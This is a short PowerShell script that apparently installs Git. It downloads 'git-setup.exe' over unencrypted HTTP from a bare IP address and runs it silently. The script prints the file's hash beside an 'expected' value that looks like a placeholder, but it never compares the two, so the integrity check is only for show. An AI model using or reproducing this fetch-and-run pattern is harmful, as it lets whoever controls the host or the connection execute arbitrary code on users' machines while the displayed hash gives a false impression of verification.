$dest = "$env:TEMP\git-setup.exe"
Invoke-WebRequest -Uri 'http://203.0.113.9/git-setup.exe' -OutFile $dest
Write-Host "SHA256: $((Get-FileHash $dest -Algorithm SHA256).Hash)"
Write-Host "expected a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f90"
& $dest /VERYSILENT
